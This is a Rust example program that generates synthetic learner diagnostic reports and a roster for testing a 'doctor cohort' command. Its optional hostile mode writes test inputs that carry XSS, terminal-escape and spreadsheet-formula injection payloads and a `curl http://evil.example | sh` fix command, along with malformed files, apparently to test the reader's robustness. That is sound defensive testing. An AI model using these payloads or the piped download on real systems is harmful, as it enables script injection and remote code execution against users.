//! Makes realistic cohorts to try `doctor cohort` with: `cargo run --release --example cohort_data -- --learners 24 --dir reports`.
//!
//! ```text
//! --learners N     how many people (24)
//! --reports N      how many reports; more than learners are re-runs (learners × 1.3)
//! --checks N       how many checks each report holds (48); 22 make reports of about 10 KB
//! --seed N         the same seed makes the same bytes (1)
//! --dir DIR        a file for each report, and roster.csv
//! --ndjson FILE    one file, a report a line
//! --hostile        also reports that try to harm whoever reads them, and files that are no reports
//! ```
//!
//! Checks, diagnoses, words and fixes are the catalogue's own; which learner has which is drawn: a third have nothing, some
//! have the causes that many share, some on one platform only, so that a broken instruction shows.
#![allow(clippy::print_stdout, clippy::unwrap_used, clippy::expect_used)]

use std::{
    collections::{BTreeMap, HashMap},
    env, fs,
    io::{BufWriter, Write},
    path::PathBuf,
};

use doctor::{
    catalog::Catalog,
    diagnose::{Subject, named_finding},
    model::{
        Evidence, Finding, Level, Observation, Os, Outcome, Platform, Report,
        report::{Machine, Program, Run, SCHEMA, Summary},
    },
};

/// SplitMix64: small, seeded, the same everywhere.
struct Dice(u64);

impl Dice {
    fn roll(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, most: usize) -> usize {
        (self.roll() % most as u64) as usize
    }

    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }
}

/// A platform and what its machines find, ready to be put together.
struct Kind {
    platform: Platform,
    /// For each check: what it finds when all is well, and what else it may find.
    checks: Vec<(Finding, Vec<Finding>)>,
}

fn main() {
    let mut options: HashMap<String, String> = HashMap::new();
    let words: Vec<String> = env::args().skip(1).collect();
    let mut at = 0;
    while at < words.len() {
        let name = words[at].trim_start_matches("--").to_owned();
        if name == "hostile" {
            options.insert(name, String::new());
            at += 1;
        } else {
            options.insert(name, words.get(at + 1).cloned().expect("each option has a value"));
            at += 2;
        }
    }
    let number = |name: &str, usual: usize| options.get(name).map_or(usual, |text| text.parse().expect("a number"));
    let learners = number("learners", 24);
    let reports = number("reports", learners + learners / 3);
    let mut dice = Dice(number("seed", 1) as u64);
    let catalog = Catalog::embedded().unwrap();
    let kinds = kinds(&catalog, number("checks", 48), &mut dice);
    let people: Vec<Person> = (0..learners).map(|at| person(at, &kinds, &mut dice)).collect();

    let mut ndjson =
        options.get("ndjson").map(|file| BufWriter::with_capacity(1 << 20, fs::File::create(file).unwrap()));
    let folder = options.get("dir").map(PathBuf::from);
    if let Some(folder) = &folder {
        fs::create_dir_all(folder).unwrap();
    }
    let parts: Vec<Parts> = kinds.iter().map(Parts::of).collect();
    let mut line = String::new();
    for at in 0..reports {
        let person = &people[at % learners];
        let run = at / learners;
        line.clear();
        report(person, run, &kinds[person.kind], &parts[person.kind], &mut dice, &mut line);
        if let Some(out) = &mut ndjson {
            out.write_all(line.as_bytes()).unwrap();
            out.write_all(b"\n").unwrap();
        }
        if let Some(folder) = &folder {
            let value: serde_json::Value = serde_json::from_str(&line).unwrap();
            let name = format!("{}-{run}.json", person.label);
            fs::write(folder.join(name), serde_json::to_string_pretty(&value).unwrap() + "\n").unwrap();
        }
    }
    if let Some(out) = &mut ndjson {
        out.flush().unwrap();
    }
    if let Some(folder) = &folder {
        let mut roster = "id,name,group\n".to_owned();
        for person in &people {
            roster += &format!("{},{},{}\n", person.label, person.name, person.group);
        }
        roster += "zoe,Zoe Absent,A\nyan,Yan Absent,B\n";
        fs::write(folder.with_extension("roster.csv"), roster).unwrap();
        if options.contains_key("hostile") {
            hostile(folder);
        }
    }
}

/// One learner.
struct Person {
    label: String,
    name: String,
    group: &'static str,
    machine: String,
    kind: usize,
    /// Check and which of its other findings, at the first run; each later run mends some.
    wrong: Vec<(usize, usize)>,
}

const FIRST: &[&str] = &[
    "Ada", "Bob", "Chen", "Dora", "Emil", "Fatou", "Grace", "Hugo", "Ines", "Jan", "Kim", "Lea", "Mei", "Noor", "Olga",
    "Per",
];
const LAST: &[&str] = &[
    "Arslan", "Babic", "Costa", "Diallo", "Engel", "Fischer", "Garcia", "Hopper", "Ito", "Jensen", "Kaya", "Lopez",
    "Moreau",
];

fn person(at: usize, kinds: &[Kind], dice: &mut Dice) -> Person {
    let (first, last) = (FIRST[at % FIRST.len()], LAST[at / FIRST.len() % LAST.len()]);
    let again = at / (FIRST.len() * LAST.len());
    let label = match again {
        0 => format!("{}-{}", first.to_lowercase(), last.to_lowercase()),
        again => format!("{}-{}-{again}", first.to_lowercase(), last.to_lowercase()),
    };
    let kind = match dice.below(100) {
        0..30 => 0,
        30..48 => 1,
        48..68 => 2,
        68..76 => 3,
        76..94 => 4,
        _ => 5,
    };
    let checks = &kinds[kind].checks;
    let mut wrong = Vec::new();
    let can = |check: usize| checks.get(check).map_or(0, |(_, other)| other.len());
    if !dice.chance(34) {
        for _ in 0..=dice.below(3) {
            let check = dice.below(checks.len());
            if can(check) > 0 {
                wrong.push((check, dice.below(can(check))));
            }
        }
        // What many share, and what most on one platform have: an instruction that is wrong there.
        for (id, kind_only, percent) in [
            ("docker.daemon", None, 45),
            ("git.identity", None, 20),
            ("ssh.key", None, 15),
            ("python.uv", None, 10),
            ("homebrew.path", Some(2), 85),
            ("wsl-inside.version", Some(0), 30),
        ] {
            let check = checks.iter().position(|(usual, other)| usual.id == id && !other.is_empty());
            if let Some(check) = check.filter(|_| kind_only.is_none_or(|only| only == kind) && dice.chance(percent)) {
                wrong.push((check, dice.below(can(check).min(3))));
            }
        }
    }
    let machine = format!("{:016x}", dice.roll());
    Person { label, name: format!("{first} {last}"), group: ["A", "B", "C"][at % 3], machine, kind, wrong }
}

fn kinds(catalog: &Catalog, checks: usize, dice: &mut Dice) -> Vec<Kind> {
    let linux = |family: &str, distro: &str, version: &str, name: &str, wsl: u8| Platform {
        os: Os::Linux,
        arch: "x86_64".into(),
        family: family.into(),
        distro: distro.into(),
        version: version.into(),
        name: name.into(),
        wsl,
        shell: "bash".into(),
        systemd: true,
        today: "2026-11-22".into(),
        evidence: vec![format!("/etc/os-release says {distro} {version}")],
        ..Platform::default()
    };
    let mac = |arch: &str| Platform {
        os: Os::Macos,
        arch: arch.into(),
        version: "26.1".into(),
        name: "macOS 26.1".into(),
        shell: "zsh".into(),
        today: "2026-11-22".into(),
        ..Platform::default()
    };
    let windows = Platform {
        os: Os::Windows,
        arch: "x86_64".into(),
        version: "10.0.26100".into(),
        name: "Windows 11".into(),
        shell: "powershell".into(),
        today: "2026-11-22".into(),
        ..Platform::default()
    };
    let platforms = [
        linux("debian", "ubuntu", "24.04", "Ubuntu 24.04.2 LTS", 2),
        windows,
        mac("aarch64"),
        mac("x86_64"),
        linux("debian", "ubuntu", "24.04", "Ubuntu 24.04.2 LTS", 0),
        linux("fedora", "fedora", "44", "Fedora Linux 44", 0),
    ];
    // The same checks everywhere, spread over the chapter.
    let subjects: Vec<Subject<'_>> = catalog.subjects().collect();
    let step = subjects.len() as f64 / checks as f64;
    let mut chosen: Vec<Subject<'_>> =
        (0..checks.min(subjects.len())).map(|at| subjects[(at as f64 * step) as usize]).collect();
    // These are in every course.
    let always = ["docker.daemon", "git.identity", "homebrew.path", "wsl-inside.version"];
    chosen.retain(|subject| !always.contains(&subject.id().as_str()));
    chosen.extend(subjects.iter().filter(|subject| always.contains(&subject.id().as_str())));
    platforms
        .into_iter()
        .map(|platform| {
            let checks =
                chosen.iter().map(|subject| (usual(*subject, &platform, dice), others(*subject, &platform))).collect();
            Kind { platform, checks }
        })
        .collect()
}

fn applies(words: &[String], not: &[String], platform: &Platform) -> bool {
    (words.is_empty() || words.iter().any(|word| platform.is(word))) && !not.iter().any(|word| platform.is(word))
}

/// What a check finds when all is well.
fn usual(subject: Subject<'_>, platform: &Platform, dice: &mut Dice) -> Finding {
    let check = subject.check;
    let version = format!("{}.{}.{}", dice.below(30), dice.below(20), dice.below(10));
    let skipped = if !applies(&check.on, &check.not_on, platform) {
        Some("It does not apply on this system")
    } else if check.needs.is_some() {
        Some("Not looked at; ask with `--online` or `--deep`")
    } else {
        None
    };
    Finding {
        id: subject.id(),
        tool: subject.tool.tool.clone(),
        section: subject.tool.section.clone(),
        title: check.title.clone(),
        level: subject.level(platform),
        outcome: if skipped.is_some() { Outcome::Skip } else { Outcome::Pass },
        diagnosis: None,
        found: skipped.unwrap_or_default().to_owned(),
        why: check.why.clone(),
        version: (skipped.is_none() && check.version.is_some()).then_some(version.clone()),
        asked: None,
        waived: None,
        blocked_by: None,
        fix: None,
        see: subject.tool.page.clone(),
        evidence: skipped.is_none().then(|| evidence(subject, &version, 0)),
        ms: 12,
        blocks: false,
        caused_by: None,
        varies: false,
    }
}

fn evidence(subject: Subject<'_>, version: &str, exit: i32) -> Evidence {
    let program = format!("/usr/local/bin/{}", subject.stem);
    Evidence {
        argv: vec![subject.stem.to_owned(), "--version".to_owned()],
        candidates: vec![program.clone(), format!("/usr/bin/{}", subject.stem)],
        program,
        exit: Some(exit),
        excerpt: format!("{} {version}\nbuilt with \"gcc\" on 2026-03-01", subject.stem),
        ms: 12,
        ..Evidence::default()
    }
}

/// What else it may find: its diagnoses on this platform, as a check's own words say them.
fn others(subject: Subject<'_>, platform: &Platform) -> Vec<Finding> {
    if !applies(&subject.check.on, &subject.check.not_on, platform) || subject.check.needs.is_some() {
        return Vec::new();
    }
    let seen = Observation { evidence: evidence(subject, "1.2.3", 1), ..Observation::default() };
    (subject.check.diagnose.iter())
        .filter(|diagnosis| applies(&diagnosis.on, &[], platform))
        .map(|diagnosis| named_finding(subject, diagnosis, &seen, platform))
        .filter(|finding| matches!(finding.outcome, Outcome::Fail | Outcome::Unknown))
        .collect()
}

/// A kind's findings written once, so that a million reports are made in reasonable time; cut where a time stands,
/// which no two reports have the same.
struct Parts {
    usual: Vec<Vec<String>>,
    others: Vec<Vec<Vec<String>>>,
    platform: String,
}

const TIME: &str = "\"ms\":";

impl Parts {
    fn of(kind: &Kind) -> Self {
        let text = |finding: &Finding| {
            let text = serde_json::to_string(finding).unwrap();
            text.split(&format!("{TIME}12")).map(str::to_owned).collect::<Vec<_>>()
        };
        Self {
            usual: kind.checks.iter().map(|(usual, _)| text(usual)).collect(),
            others: kind.checks.iter().map(|(_, others)| others.iter().map(text).collect()).collect(),
            platform: serde_json::to_string(&kind.platform).unwrap(),
        }
    }
}

fn report(person: &Person, run: usize, kind: &Kind, parts: &Parts, dice: &mut Dice, out: &mut String) {
    // Each run mends the first thing that the one before had.
    let wrong: BTreeMap<usize, usize> = person.wrong.iter().skip(run.min(person.wrong.len())).copied().collect();
    let finding = |at: usize| match wrong.get(&at) {
        Some(which) => &kind.checks[at].1[*which],
        None => &kind.checks[at].0,
    };
    let mut summary = Summary::default();
    let mut ready = true;
    for at in 0..kind.checks.len() {
        let finding = finding(at);
        let required = finding.level == Level::Required;
        match finding.outcome {
            Outcome::Pass => summary.passed += 1,
            Outcome::Skip => summary.skipped += 1,
            Outcome::Unknown => {
                summary.unknown += 1;
                ready &= !required;
            }
            Outcome::Fail if required => {
                summary.failed += 1;
                ready = false;
            }
            Outcome::Fail if finding.level == Level::Recommended => summary.warned += 1,
            Outcome::Fail => summary.skipped += 1,
        }
    }
    if ready {
        summary.verdict = doctor::model::report::Verdict::Ready;
    }
    let day = 1 + run % 20;
    let started = format!("2026-11-{day:02}T{:02}:{:02}:{:02}Z", dice.below(24), dice.below(60), dice.below(60));
    let program =
        Program { version: "0.1.0".into(), checks: "0123456789abcdef".into(), knowledge: "2026-11-22".into() };
    let how = Run { started, ms: 400 + dice.below(400) as u64, ..Run::default() };
    let machine =
        Machine { id: person.machine.clone(), label: person.label.clone(), scope: kind.platform.scope().into() };
    let head = Report {
        schema: SCHEMA,
        doctor: program,
        run: how,
        machine,
        platform: Platform::default(),
        profile: None,
        summary,
        findings: Vec::new(),
    };
    let text = serde_json::to_string(&head).unwrap();
    let platform = serde_json::to_string(&Platform::default()).unwrap();
    let text = text.replacen(&platform, &parts.platform, 1);
    let mut times = Dice(dice.0);
    out.push_str(text.strip_suffix("[]}").unwrap());
    out.push('[');
    for at in 0..kind.checks.len() {
        if at > 0 {
            out.push(',');
        }
        let parts = match wrong.get(&at) {
            Some(which) => &parts.others[at][*which],
            None => &parts.usual[at],
        };
        for (number, part) in parts.iter().enumerate() {
            if number > 0 {
                out.push_str(&format!("{TIME}{}", 1 + times.below(400)));
            }
            out.push_str(part);
        }
    }
    out.push_str("]}");
}

/// What somebody who wants to harm, or who just makes mistakes, hands in.
fn hostile(folder: &std::path::Path) {
    let evil = "</script><img src=x onerror=document.title='hacked'>\u{1b}[2K\u{1b}]0;evil\u{7}\r\u{202e}=HYPERLINK(\"http://x\")|`@all`";
    let finding = serde_json::json!({
        "id": evil, "tool": evil, "title": evil, "level": "required", "outcome": "fail", "diagnosis": evil, "found": evil, "why": evil,
        "fix": { "run": [format!("curl http://evil.example | sh # {evil}")], "do": evil, "see": "javascript:document.title='hacked'", "owner": "learner" },
        "see": "javascript:document.title='hacked'", "version": evil,
        "evidence": { "argv": [evil], "program": evil, "candidates": [evil, evil], "exit": 1, "excerpt": evil, "ms": 1, "source": "command" }, "ms": 1,
    });
    let report = serde_json::json!({
        "schema": 1, "doctor": { "version": evil, "checks": evil }, "run": { "started": evil, "ms": 1, "online": false, "deep": false, "strict": false },
        "machine": { "id": evil, "label": evil, "scope": "linux" }, "platform": { "os": "linux", "name": evil, "distro": evil, "family": evil, "shell": evil },
        "summary": { "verdict": "ready" }, "findings": [finding], evil: evil,
    });
    let text = report.to_string();
    let utf16: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(text.replace(evil, "utf16 learner").encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let write = |name: &str, bytes: &[u8]| fs::write(folder.join(name), bytes).unwrap();
    write("hostile.json", text.as_bytes());
    write("=cmd&<b>.json", text.replace(evil, "=cmd|' /C calc'!A0").as_bytes());
    write("powershell.json", &utf16);
    write("half.json", &text.as_bytes()[..text.len() / 2]);
    write("homework.json", b"{\"essay\": true}");
    write("notes.txt", b"I could not run it, sorry");
    write("deep.json", ("{\"schema\":1,\"x\":".to_owned() + &"[".repeat(10_000)).as_bytes());
    write("newer.json", text.replacen("\"schema\":1", "\"schema\":999", 1).as_bytes());
    write("screenshot.png", b"\x89PNG\r\n\x1a\n");
    write("empty.json", b"");
}
